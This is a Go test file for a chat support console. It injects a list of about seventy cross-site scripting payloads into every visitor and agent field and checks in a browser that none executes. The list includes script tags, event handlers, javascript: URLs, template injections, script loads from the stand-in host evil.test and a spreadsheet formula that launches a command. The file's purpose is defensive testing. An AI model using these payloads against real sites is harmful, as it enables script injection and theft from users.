package main

import (
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"
)

// payloads are ways to smuggle a script into a page, each of which sets window.pwned
// when it runs: tags, handlers, broken markup, addresses, templates, escapes, styles.
func payloads() []string {
	list := []string{
		`<script>pwned=1</script>`, `<ScRiPt>pwned=1</sCrIpT>`, `<script src=//evil.test/x.js></script>`, `<script>pwned=1//`,
		`</script><script>pwned=1</script>`, `</textarea><script>pwned=1</script>`, `</title><script>pwned=1</script>`, `</style><script>pwned=1</script>`,
		`--><script>pwned=1</script>`, `]]><script>pwned=1</script>`, `"><script>pwned=1</script>`, `'><script>pwned=1</script>`,
		`<script/x>pwned=1</script>`, `<<script>pwned=1//<</script>`, `<script type=module>pwned=1</script>`, `<noscript><p title="</noscript><img src=x onerror=pwned=1>">`,
		`javascript:pwned=1`, `JaVaScRiPt:pwned=1`, "java\tscript:pwned=1", `data:text/html,<script>pwned=1</script>`, `vbscript:pwned=1`,
		`<a href=javascript:pwned=1>x</a>`, `<a href="jav&#x61;script:pwned=1">x</a>`, `<a href="&#1;javascript:pwned=1">x</a>`, `[x](javascript:pwned=1)`,
		`[x](data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+)`, `![x](x"onerror="pwned=1)`, `<http://x" onload="pwned=1>`,
		`<form action=javascript:pwned=1><button>x`, `<button formaction=javascript:pwned=1>x`, `<isindex action=javascript:pwned=1>`, `<base href=//evil.test/>`,
		`<meta http-equiv=refresh content="0;url=javascript:pwned=1">`, `<link rel=import href=//evil.test/x>`, `<link rel=stylesheet href=//evil.test/x.css>`,
		`<iframe srcdoc="<script>parent.pwned=1</script>">`, `<iframe src=javascript:parent.pwned=1>`, `<object data=javascript:pwned=1>`, `<embed src=javascript:pwned=1>`,
		`<style>@import '//evil.test/x.css';</style>`, `<div style="background:url(javascript:pwned=1)">x`, `<p style=animation-name:x onanimationstart=pwned=1>`,
		`<math><mtext><script>pwned=1</script></mtext></math>`, `<svg><script>pwned=1</script></svg>`, `<svg><a xlink:href=javascript:pwned=1><text>x</text></a></svg>`,
		`<template><script>pwned=1</script></template>`, `<x-tag onclick=pwned=1>x`, `{{constructor.constructor('pwned=1')()}}`, `${pwned=1}`, `#{pwned=1}`,
		`\u003cscript\u003epwned=1\u003c/script\u003e`, `&lt;script&gt;pwned=1&lt;/script&gt;`, `%3Cscript%3Epwned=1%3C/script%3E`, "\u2028pwned=1\u2029", `';pwned=1;'`, `";pwned=1;"`,
		"`-pwned=1-`", `*/pwned=1/*`, `=cmd|'/C calc'!A0`,
	}
	for _, tag := range []struct{ name, handler string }{
		{"img src=x", "onerror"}, {"svg", "onload"}, {"body", "onload"}, {"input autofocus", "onfocus"}, {"details open", "ontoggle"},
		{"video src=x", "onerror"}, {"audio src=x", "onerror"}, {"marquee", "onstart"}, {"select autofocus", "onfocus"}, {"svg><animate", "onbegin"},
	} {
		list = append(list, fmt.Sprintf(`<%s %s=pwned=1>`, tag.name, tag.handler))
	}
	return list
}

// TestNothingThatAVisitorWritesRunsInTheConsole puts every payload into every field
// that somebody outside, or an agent, fills, and looks at it in every view.
func TestNothingThatAVisitorWritesRunsInTheConsole(t *testing.T) {
	all := payloads()
	if len(all) < 60 {
		t.Fatalf("there are only %d payloads", len(all))
	}
	dir := t.TempDir()
	p := start(t, dir, "--message-rate", "0", "--connections-per-address", "0")
	hire(t, dir, "Vera <script>pwned=1</script>", "supervisor", "general")
	vera := p.signIn(t, "Vera <script>pwned=1</script>", staffPassword)
	desk := p.staff(t, vera)
	var open []string
	for i, payload := range all {
		open = append(open, p.smuggle(t, desk, payload, i))
		reply := map[string]any{"short": fmt.Sprintf("p%d", i), "language": "en", "text": payload, "own": true}
		if status, body := p.call(t, vera, "PUT", "/api/replies/"+newID(), reply); status != 200 && !strings.Contains(body, "is not known") {
			t.Fatalf("saving the reply %s: %s", payload, body)
		}
	}
	cases := p.references(t, vera)

	b := openBrowser(t, p.origin)
	tb := b.seat("Vera <script>pwned=1</script>", "/console", 1440, 900)
	tb.sees("Waiting")
	look := func(view string) {
		t.Helper()
		const bad = `#app :is(script, iframe, object, embed, img, link, style, base, meta, math, template, marquee, video, audio, x-tag, isindex), #app :is([onclick], [onerror], [onload], [onfocus], [ontoggle], [onstart], [onbegin], [onanimationstart]), #app :is(a[href^="javascript:" i], a[href^="data:" i], a[href^="vbscript:" i], [formaction])`
		if found := js[string](tb, "typeof pwned !== 'undefined' ? 'it ran' : [...document.querySelectorAll("+quote(bad)+")].map(e => e.outerHTML).join().slice(0, 300)"); found != "" {
			t.Errorf("%s: %s", view, found)
		}
	}
	for i, conversation := range open {
		tb.goTo("/console/c/" + conversation + "?case=" + cases[conversation])
		// The title is the visitor's last words, as a text.
		tb.wait("document.querySelector('#chat-h')?.textContent === " + quote(titleOf(all[i])) + " && find.all('.log .msg.note').length > 0 && find.all('.box.case').length > 0")
		look("the chat with " + all[i])
		if i%2 == 0 { // it waits again
			tb.goTo("/console/c/" + conversation + "?show=supervise")
			tb.wait("document.querySelector('#su-h')?.textContent === " + quote("Supervise: "+titleOf(all[i])))
			look("the supervisor's dialog with " + all[i])
		}
	}
	for _, view := range []struct{ path, ready string }{
		{"/console", "Waiting"}, {"/console?list=all", "All chats"}, {"/console?list=all&text=pwned", "All chats"}, {"/console?list=messages", "Messages and calls"},
		{"/console?list=requests", "Service requests"}, {"/console/replies", "/p59"}, {"/console/reports", "Conversations by hour"}, {"/console?show=palette", "Search in the lists"},
		{"/console?text=%3Cscript%3Epwned=1%3C/script%3E", "Waiting"},
	} {
		tb.goTo(view.path)
		tb.sees(view.ready)
		look(view.path)
	}
	tb.goTo("/console?show=palette")
	tb.write("[role=combobox]", "pwned")
	tb.sees("Search all chats for")
	look("the palette with chats")
	tb.goTo("/console/c/" + open[2])
	tb.press("Take this chat")
	tb.wait("find.all('#reply').length")
	tb.write("#reply", "/p")
	tb.sees("All saved replies")
	look("the list of saved replies")
	tb.keys("\r") // inserts one
	look("an inserted reply")
	tb.press("What would Emma say?")
	tb.sees("Emma would say")
	look("what Emma would say")
	for _, sheet := range []struct{ name, ready string }{{"transfer", "Transfer this chat"}, {"request", "Open a service request"}, {"close", "Close this chat"}, {"supervise", "Whisper to"}} {
		tb.goTo("/console/c/" + open[2] + "?show=" + sheet.name)
		tb.sees(sheet.ready)
		look("the dialog " + sheet.name)
	}
	tb.goTo("/console/board")
	tb.sees("Queue by team")
	look("the board")

	// What was a tag once is offered again; what was sealed is shown to who opens it.
	tb.goTo("/console/c/" + open[2] + "?show=close")
	tb.write("#cl-tags", strings.Join([]string{short(all[0]), short(all[len(all)-1])}, ","))
	tb.press("Close the chat")
	_, sealed := p.waiting(t, "<img src=x onerror=pwned=1> IOE0912345678 <svg onload=pwned=1>")
	tb.goTo("/console/c/" + sealed.Conversation + "/details")
	tb.press("Take this chat")
	tb.press("Reveal (logged)")
	tb.sees("IOE0912345678")
	look("a number that was opened")
	tb.goTo("/console/c/" + sealed.Conversation + "?show=close")
	tb.sees("Used before:")
	look("tags that were used before")
}

// titleOf is how words stand as a title: one line of at most 80 characters.
func titleOf(text string) string { return strings.Join(strings.Fields(text), " ") }

// references are those of all open cases, by conversation.
func (p *program) references(t *testing.T, browser *http.Client) map[string]string {
	t.Helper()
	var list struct {
		Cases []struct{ Reference, Conversation string }
	}
	if status, body := p.call(t, browser, "GET", "/api/cases", nil); status != 200 || json.Unmarshal([]byte(body), &list) != nil {
		t.Fatalf("the cases are answered with %d %s", status, body)
	}
	found := map[string]string{}
	for _, c := range list.Cases {
		found[c.Conversation] = c.Reference
	}
	return found
}

// smuggle fills every field of a conversation with a payload and returns its id.
func (p *program) smuggle(t *testing.T, desk *client, payload string, i int) string {
	t.Helper()
	c := dial(t, "ws://"+p.address+"/ws/visitor", map[string][]string{
		"User-Agent": {clean(payload)}, "Referer": {"https://www.example.org/" + clean(payload)}, "Accept-Language": {clean(payload)},
	})
	c.send(map[string]any{"type": "hello", "token": "", "after": 0, "language": "en", "page": "https://www.example.org/" + payload})
	conversation := c.until(func(f frame) bool { return f.Type == "welcome" }).Conversation
	c.do(map[string]any{"type": "leave_message", "text": payload, "name": clean(payload), "email": fmt.Sprintf("a+pwned=1&%d@example.org", i), "phone": "", "consent": true})
	c.do(map[string]any{"type": "agent"})
	c.do(map[string]any{"type": "say", "text": payload})
	c.do(map[string]any{"type": "feedback", "seq": 1, "helpful": false, "comment": payload})
	c.do(map[string]any{"type": "rate", "stars": 1, "comment": payload})
	desk.do(map[string]any{"type": "claim", "conversation": conversation})
	desk.do(map[string]any{"type": "note", "conversation": conversation, "text": payload})
	desk.do(map[string]any{"type": "say", "conversation": conversation, "text": payload})
	if i%2 == 0 {
		desk.do(map[string]any{"type": "transfer", "conversation": conversation, "team": "general", "note": payload})
	} else {
		desk.do(map[string]any{"type": "close", "conversation": conversation, "disposition": "", "tags": []string{short(payload), "pwned"}})
	}
	return conversation
}

// clean is a payload without what no header and no name may hold.
func clean(payload string) string {
	return strings.Map(func(r rune) rune {
		if r < ' ' || r > '~' {
			return -1
		}
		return r
	}, payload)
}

// short is as much of a payload as a tag may hold.
func short(payload string) string {
	for len(payload) > 60 {
		payload = payload[:len(payload)-1]
	}
	return payload
}
